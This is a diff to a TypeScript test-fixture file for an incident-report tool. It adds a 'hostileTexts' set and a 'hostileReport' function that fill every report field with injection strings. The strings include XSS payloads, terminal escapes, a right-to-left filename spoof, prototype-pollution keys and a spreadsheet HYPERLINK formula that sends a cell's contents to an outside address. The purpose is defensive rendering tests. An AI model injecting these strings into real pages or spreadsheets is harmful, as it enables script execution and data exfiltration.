@@ -182,7 +182,6 @@ const dc01: StepEnd = { entity: 'host', name: 'dc01.island.example', addresses: 
 const ews02: StepEnd = { entity: 'host', name: 'ews02.ot.island.example', addresses: ['10.60.2.12'] }
 const files01: StepEnd = { entity: 'host', name: 'files01.island.example', addresses: ['10.20.8.20'] }
 const water: StepEnd = { entity: 'critical-service', name: 'Drinking water, northern wells', addresses: [] }
-const telephone: StepEnd = { entity: 'critical-service', name: 'Mobile telephone core', addresses: [] }
 
 const barograph = (rule: string, title: string, level: Severity): Witness => ({ source: 'barograph', rule, title, level })
 const sigma = (rule: string, title: string, level: Severity): Witness => ({ source: 'sigma', rule, title, level })
@@ -930,9 +929,6 @@ export const islandReport: Report = {
   },
 }
 
-/** Services of the story that no step names. */
-export const otherEnds = { telephone }
-
 /** Everything was covered and nothing is there. */
 export const quietReport: Report = {
   ...islandReport,
@@ -1001,4 +997,155 @@ export const insufficientReport: Report = {
     sources: [],
     partial: true,
   },
+}
+
+/** Text an attacker would like to see run, obeyed, or in the way. */
+export const hostileTexts = {
+  script: '<script>window.ran = 1</script>',
+  image: '"><img src=x onerror="window.ran = 1">',
+  attribute: '" onmouseover="window.ran = 1" x="',
+  closing: '</title></style></script></svg></template><script>window.ran = 1</script>',
+  link: 'javascript:window.ran=1',
+  escape: '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b31m',
+  direction: 'invoice\u202egpj.exe\u2066',
+  formula: '=HYPERLINK("http://192.0.2.1/"&A1)',
+  long: 'A'.repeat(5000),
+  host: 'h'.repeat(300),
+  marks: `z${'\u0300\u0489'.repeat(200)}`,
+  nothing: '\u200b\ufeff',
+  half: '\ud800',
+  lines: 'one\ntwo\r\nthree\u2028four\tfive',
+  entity: '&lt;b&gt; &amp;',
+  prototype: '__proto__',
+} as const
+
+/** Every place of a report that can hold text from evidence, filled with the worst. */
+export function hostileReport(): Report {
+  const texts = Object.values(hostileTexts)
+  let turn = 0
+  const bad = () => texts[turn++ % texts.length] ?? ''
+  const badEnd = (entity: StepEnd['entity']): StepEnd => ({ entity, name: bad(), addresses: [bad(), bad()] })
+  const badRecord = (): ReportRecord => ({ evidenceId: bad(), path: bad(), record: 7, time: bad(), excerpt: texts.join(' ') })
+  const badFindings = texts.map(
+    (text, index): ReportFinding => ({
+      id: bad(),
+      title: text,
+      severity: (['informational', 'low', 'medium', 'high', 'critical'] as const)[index % 5] ?? 'low',
+      confidence: 'low',
+      techniques: ['T1505.003', bad()],
+      techniqueAliases: [bad()],
+      hosts: [text, bad()],
+      accounts: [bad()],
+      addresses: [bad()],
+      firstTime: index % 2 === 0 ? '2023-08-15T05:34:25.000000Z' : bad(),
+      lastTime: bad(),
+      count: 3,
+      why: bad(),
+      benignExplanation: bad(),
+      witnesses: [{ source: 'sigma', rule: bad(), title: bad(), level: 'high' }],
+      evidence: [badRecord(), badRecord()],
+      evidenceTotal: 2,
+    }),
+  )
+  const kinds = [
+    'outside-address',
+    'relay',
+    'edge-device',
+    'host',
+    'account',
+    'file',
+    'web-resource',
+    'service',
+    'critical-service',
+  ] as const
+  const badSteps = Array.from(
+    { length: 24 },
+    (_, index): ReportStep => ({
+      order: index + 1,
+      time: bad(),
+      orderedTime: index % 3 === 0 ? '2023-08-15T05:34:25.000000Z' : bad(),
+      technique: bad(),
+      title: bad(),
+      from: badEnd(kinds[index % 9] ?? 'host'),
+      to: badEnd(kinds[(index * 5 + 1) % 9] ?? 'host'),
+      account: bad(),
+      how: index % 2 === 0 ? 'observed' : 'inferred',
+      why: bad(),
+      findings: [badFindings[0]?.id ?? ''],
+      evidence: [badRecord()],
+    }),
+  )
+  return {
+    ...islandReport,
+    version: bad(),
+    generatedFrom: {
+      evidence: texts.map(text => ({
+        ...vpn,
+        id: bad(),
+        path: text,
+        sha256: bad(),
+        format: bad(),
+        firstTime: bad(),
+        lastTime: bad(),
+      })),
+      diagnostics: texts.map(text => ({
+        kind: 'diagnostic',
+        code: bad(),
+        level: 'warning',
+        message: text,
+        hint: bad(),
+        path: bad(),
+      })),
+      since: bad(),
+      until: bad(),
+    },
+    verdict: { level: 'suspicious', sentence: texts.join(' '), confidence: 'low' },
+    findings: badFindings,
+    incidents: [
+      {
+        id: bad(),
+        title: bad(),
+        summary: bad(),
+        severity: 'high',
+        confidence: 'low',
+        findings: badFindings.map(finding => finding.id),
+        entities: badSteps.map(item => ({ ...item.to, aliases: [bad()], firstTime: bad(), lastTime: bad() })),
+        steps: badSteps,
+        trailEnds: [
+          { at: badSteps[0]?.to.name ?? '', why: bad(), whatWouldContinueIt: bad() },
+          { at: badSteps[1]?.from.name ?? '', why: bad(), whatWouldContinueIt: bad() },
+        ],
+      },
+    ],
+    attribution: {
+      hypotheses: [{ who: bad(), likelihood: 'likely', confidence: 'low', for: [...texts], against: [...texts] }],
+      statement: bad(),
+    },
+    impact: {
+      services: texts.map(text => ({ name: text, sector: bad(), state: 'could', why: bad() })),
+      cut: [{ what: bad(), protects: [bad()], cost: bad() }],
+    },
+    blindSpots: texts.map(text => ({ what: text, where: bad(), from: bad(), to: bad(), consequence: bad(), howToClose: bad() })),
+    clocks: [{ source: bad(), offset: 1, basis: bad() }],
+    actions: texts.map((text, index) => ({
+      order: index + 1,
+      kind: 'preserve',
+      what: text,
+      targets: [bad()],
+      doFirst: bad(),
+      doNot: bad(),
+      why: bad(),
+      effort: bad(),
+      findings: [bad()],
+    })),
+    coverage: {
+      ...islandReport.coverage,
+      sources: texts.map(text => ({
+        ...coverageRow(text, vpn, 'yes', 'no', 'no'),
+        source: bad(),
+        firstTime: bad(),
+        lastTime: bad(),
+      })),
+    },
+  }
 }
